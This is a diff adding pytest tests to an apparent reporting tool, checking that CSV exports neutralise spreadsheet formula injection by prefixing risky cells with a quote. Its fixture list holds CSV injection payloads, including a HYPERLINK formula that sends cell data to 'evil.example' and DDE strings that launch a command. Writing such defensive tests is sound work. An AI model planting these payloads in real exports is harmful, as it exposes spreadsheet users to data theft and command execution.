@@ -574,3 +574,42 @@ def test_the_quick_sqlite_read_is_used_on_the_default_file_and_never_past_a_set_
     monkeypatch.setenv("SOPGEN_DATABASE_URL", f"sqlite:///{other}")
     done_in("A1", "A2", "A3", case="OTHER-1")
     assert reported() == 3 and quick[-1] is False  # the named store, not the default file
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+2",
+]
+
+
+def test_report_csv_cells_never_start_a_formula(project: Project) -> None:
+    received = ("--received", "2026-11-23T08:00")
+    for n, assignee in enumerate(FORMULAS):
+        opened = project.run(
+            "open", f"C-{n}", "--sop", "SOP-CS-001", *received, "--assignee", assignee
+        )
+        assert opened.exit_code == 0, opened.output
+        done = project.run("done", f"C-{n}", "receive", "--at", "2026-11-23T09:00")
+        assert done.exit_code == 0, done.output
+    text = run(project.root, "--since", "2026-11-01", "--format", "csv").stdout
+    assignees = {
+        r["assignee"] for r in csv.DictReader(io.StringIO(text)) if r["group"] == "assignee"
+    }
+    # each shown as text: a quote first (a tab inside an assignee is cleaned to a space)
+    assert assignees == {"'" + " ".join(a.split()) for a in FORMULAS}
+    assert not any(line.startswith(("=", "+", "-", "@")) for line in text.splitlines())
+    for cell in text.replace("\n", ",").split(","):
+        assert not cell.lstrip('"').startswith(("=", "+", "@", "\t", "\r")), cell
+
+
+def test_safe_cell_prefixes_what_a_spreadsheet_would_run_and_nothing_else() -> None:
+    from sopgen.csvout import csv_text, safe_cell
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert safe_cell(start + "1") == "'" + start + "1"
+    for kept in ("alice", "Bob = boss", "", " =x", 3, -2.5, None):
+        assert safe_cell(kept) == kept
+    assert csv_text([["=1+2", -1, 'say "hi"']]) == '\'=1+2,-1,"say ""hi"""\n'
